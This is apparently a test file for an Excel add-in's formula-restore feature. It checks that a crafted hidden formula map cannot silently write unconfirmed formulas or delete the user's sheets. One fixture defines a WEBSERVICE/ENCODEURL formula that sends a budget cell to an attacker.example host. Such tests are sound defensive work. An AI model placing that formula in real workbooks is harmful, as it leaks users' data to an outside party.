// Restore formulas against a map it did not write: a workbook from someone else may carry a crafted "DSR formulas"
// sheet. A formula that is not only DSR calls, references, constants and operators is written only once the user
// confirms it (re-checked in the batch that writes), and a sheet is deleted only when it carries the add-in's mark and
// still holds what the add-in wrote: never the user's "Budget".

import { describe, expect, test } from "vitest";
import { ALL_CAPABILITIES } from "../../src/taskpane/excel/capabilities";
import { restoreFormulas } from "../../src/taskpane/excel/restore";
import { makeShareable } from "../../src/taskpane/excel/share";
import { FORMULA_MAP_SHEET, fingerprintOf, mapRows, OWN_SHEET_PROPERTY, ownSheetMark, type MapEntry } from "../../src/taskpane/excel/share-map";
import { FORMULA_FACTS } from "../../src/taskpane/ui/figures";
import { useCustomFunctionsDouble } from "../functions/custom-functions-double";
import { calculateDsr } from "./fake-calculator";
import { FakeExcelContext } from "./fake-excel";
import { columnName } from "./fake-excel-model";

useCustomFunctionsDouble();

const STEAL = '=WEBSERVICE("https://attacker.example/?d="&ENCODEURL(Budget!A1))';

const row = (sheet: string, cell: string, formula: string, shown: string | number): MapEntry => ({
  sheet,
  cell,
  formula,
  spill: "",
  numberFormats: "General",
  fingerprint: fingerprintOf([[shown]]),
  note: false,
  kind: "mixed",
  sources: [],
});

/** A stranger's workbook: a static cell the map "restores" with a formula that sends the user's budget away. */
function craftedWorkbook(entries: readonly MapEntry[], sourcesSheet: string): FakeExcelContext {
  const fake = new FakeExcelContext();
  fake.book.calculate = calculateDsr;
  fake.setCell("Sheet1", "A1", "harmless");
  fake.setCell("Sheet1", "B1", 0.0792);
  mapRows({ entries, sourcesSheet }).forEach((cells, r) =>
    cells.forEach((value, c) => {
      if (value !== "") fake.setCell(FORMULA_MAP_SHEET, `${columnName(c)}${r + 1}`, value);
    }),
  );
  fake.sheet(FORMULA_MAP_SHEET).visibility = "Hidden";
  // The recipient's own sheet, which the map names as its Sources sheet.
  fake.setCell("Budget", "A1", "Salary");
  fake.setCell("Budget", "B1", 52000);
  return fake;
}

describe("Restore formulas and a crafted map", () => {
  test("a WEBSERVICE formula is shown with its cell and written only once confirmed; the user's Budget is never deleted", async () => {
    const fake = craftedWorkbook([row("Sheet1", "A1", STEAL, "harmless"), row("Sheet1", "B1", '=DSR.SEPSHARE("Huawei")', 0.0792)], "Budget");
    const budget = fake.snapshot("Budget");

    const first = await restoreFormulas(fake, ALL_CAPABILITIES);
    expect(first.unconfirmed).toEqual([{ sheet: "Sheet1", cell: "A1", address: "'Sheet1'!A1", formula: STEAL, why: "It calls WEBSERVICE and ENCODEURL." }]);
    // The DSR formula is put back; the other is not written, and its row stays in the map.
    expect(first.restored).toBe(1);
    expect(fake.cell("Sheet1", "B1")?.formula).toBe('=DSR.SEPSHARE("Huawei")');
    expect(fake.cell("Sheet1", "A1")).toMatchObject({ value: "harmless", formula: "harmless" });
    expect(fake.contents(FORMULA_MAP_SHEET).get("C3")).toBe(STEAL);
    expect(fake.snapshot("Budget")).toEqual(budget);

    // Confirmed: written (re-checked in that batch). Nothing is left to restore: the map, which the add-in rewrote and
    // marked when it took the DSR row out, goes; Budget, which the map called its Sources sheet, stays.
    const confirmed = await restoreFormulas(fake, ALL_CAPABILITIES, first.unconfirmed);
    expect(confirmed).toMatchObject({ restored: 1, unconfirmed: [], skipped: [], sheetsKept: ["Budget"] });
    expect(fake.cell("Sheet1", "A1")?.formula).toBe(STEAL);
    expect(fake.snapshot("Budget")).toEqual(budget);
    expect(fake.book.sheet(FORMULA_MAP_SHEET)).toBeUndefined();
  });

  test("a forged mark does not get a sheet deleted once it holds anything the add-in did not write", async () => {
    const fake = craftedWorkbook([row("Sheet1", "B1", '=DSR.SEPSHARE("Huawei")', 0.0792)], "Budget");
    // The stranger marked Budget as a Sources sheet holding its first row; the recipient then typed a salary.
    fake.sheet("Budget").customProperties.set(OWN_SHEET_PROPERTY, ownSheetMark("sources", [["Salary"]]));
    const restored = await restoreFormulas(fake, ALL_CAPABILITIES);
    expect(restored).toMatchObject({ restored: 1, sheetsKept: ["Budget", FORMULA_MAP_SHEET] });
    expect(fake.contents("Budget").get("B1")).toBe(52000);
  });

  test("Make shareable on a workbook whose map names the user's sheet as Sources writes a Sources sheet of its own", async () => {
    const fake = craftedWorkbook([row("Sheet1", "B1", STEAL, 0.0792)], "Budget");
    fake.setFormula("Sheet1", "D1", '=DSR.SEPSHARE("Huawei","Stoll")');
    const budget = fake.snapshot("Budget");
    const shared = await makeShareable(fake, "workbook", ALL_CAPABILITIES, FORMULA_FACTS);
    expect(shared.sourcesSheet).toBe("Sources");
    expect(fake.snapshot("Budget")).toEqual(budget);
    // The workbook's bibliography (issue 21): its title, then a source row citing the formula's cell.
    expect(fake.contents("Sources").get("A1")).toBe("Sources of the figures in this workbook");
    expect(fake.contents("Sources").get("A4")).toBe("Source");
    expect([...fake.contents("Sources").values()]).toContain("Stoll (2020)");
  });

  test("a row whose formula cell lies outside the cells it checked is not written", async () => {
    const entry: MapEntry = { ...row("Sheet1", "A1", '=DSR.SEPSHARE("Huawei")', ""), spill: "Z1:Z2", fingerprint: fingerprintOf([[""], [""]]) };
    const fake = craftedWorkbook([entry], "Budget");
    const restored = await restoreFormulas(fake, ALL_CAPABILITIES);
    expect(restored.skipped).toEqual([{ address: "'Sheet1'!Z1:Z2", why: "the map's row does not fit its cells" }]);
    expect(fake.cell("Sheet1", "A1")?.value).toBe("harmless");
  });
});

describe("Restore formulas and a shared workbook with other functions", () => {
  const ROUNDED = '=ROUND(DSR.SEPSHARE("Huawei"),2)';
  function sharedWorkbook(): FakeExcelContext {
    const fake = new FakeExcelContext();
    // The fake calculates DSR calls only: ROUND of Huawei's 7.92% is given here.
    fake.book.calculate = (formula, valueAt) => (formula === ROUNDED ? [[{ value: 0.08 }]] : calculateDsr(formula, valueAt));
    fake.setFormula("Sheet1", "A1", ROUNDED);
    fake.setFormula("Sheet1", "A2", '=DSR.SEPSHARE("Huawei","Stoll")');
    fake.setCell("Sheet1", "C1", "the user's own cell");
    return fake;
  }
  const everything = (fake: FakeExcelContext): unknown => fake.book.sheets.map((sheet) => ({ name: sheet.name, snapshot: fake.snapshot(sheet.name) }));

  test("=ROUND(DSR.SEPSHARE(…),2) comes back once confirmed, and then the add-in's sheets go", async () => {
    const fake = sharedWorkbook();
    const before = everything(fake);
    await makeShareable(fake, "workbook", ALL_CAPABILITIES, FORMULA_FACTS);
    const first = await restoreFormulas(fake, ALL_CAPABILITIES);
    expect(first.restored).toBe(1);
    expect(first.unconfirmed.map((item) => [item.address, item.formula, item.why])).toEqual([
      ["'Sheet1'!A1", '=ROUND(DSR.SEPSHARE("Huawei"),2)', "It calls ROUND."],
    ]);
    expect(fake.cell("Sheet1", "A1")?.formula).toBe("0.08");
    expect(fake.book.sheet("Sources")).toBeDefined();

    const second = await restoreFormulas(fake, ALL_CAPABILITIES, first.unconfirmed);
    expect(second).toMatchObject({ restored: 1, unconfirmed: [], skipped: [], sheetsKept: [] });
    expect(everything(fake)).toEqual(before);
  });

  test("a confirmed cell changed since is still not written over", async () => {
    const fake = sharedWorkbook();
    await makeShareable(fake, "workbook", ALL_CAPABILITIES, FORMULA_FACTS);
    const first = await restoreFormulas(fake, ALL_CAPABILITIES);
    fake.setCell("Sheet1", "A1", "checked by hand");
    const second = await restoreFormulas(fake, ALL_CAPABILITIES, first.unconfirmed);
    expect(second.skipped).toEqual([{ address: "'Sheet1'!A1", why: "its cells changed since it was made static" }]);
    expect(fake.cell("Sheet1", "A1")?.value).toBe("checked by hand");
  });

  test("a confirmation covers only the formula the user was shown", async () => {
    const fake = sharedWorkbook();
    await makeShareable(fake, "workbook", ALL_CAPABILITIES, FORMULA_FACTS);
    const shown = [{ sheet: "Sheet1", cell: "A1", formula: '=ROUND(DSR.SEPSHARE("Huawei"),3)' }];
    const restored = await restoreFormulas(fake, ALL_CAPABILITIES, shown);
    expect(restored.unconfirmed.map((item) => item.formula)).toEqual(['=ROUND(DSR.SEPSHARE("Huawei"),2)']);
    expect(fake.cell("Sheet1", "A1")?.formula).toBe("0.08");
  });

  test("a Sources sheet the user added to after sharing is kept, and said so", async () => {
    const fake = new FakeExcelContext();
    fake.book.calculate = calculateDsr;
    fake.setFormula("Sheet1", "A1", '=DSR.SEPSHARE("Huawei","Stoll")');
    await makeShareable(fake, "workbook", ALL_CAPABILITIES, FORMULA_FACTS);
    fake.setCell("Sources", "E9", "my reading notes");
    const restored = await restoreFormulas(fake, ALL_CAPABILITIES);
    expect(restored).toMatchObject({ restored: 1, sheetsKept: ["Sources"] });
    expect(fake.contents("Sources").get("E9")).toBe("my reading notes");
    expect(fake.book.sheet(FORMULA_MAP_SHEET)).toBeUndefined();
  });
});
